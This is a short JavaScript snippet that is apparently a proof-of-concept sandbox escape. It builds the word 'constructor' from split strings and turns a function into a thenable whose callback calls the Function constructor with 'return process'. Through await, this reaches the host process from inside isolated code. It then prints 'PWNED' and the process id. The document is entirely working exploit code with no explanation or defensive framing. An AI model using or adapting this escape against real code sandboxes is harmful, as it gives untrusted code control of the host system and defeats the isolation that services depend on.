const w = ['con', 'structor'].join('');
const f = () => 1;
Object.assign(f, { then: (done) => done(done[w]('return process')().pid) });
(async () => console.log('PWNED', await f))();
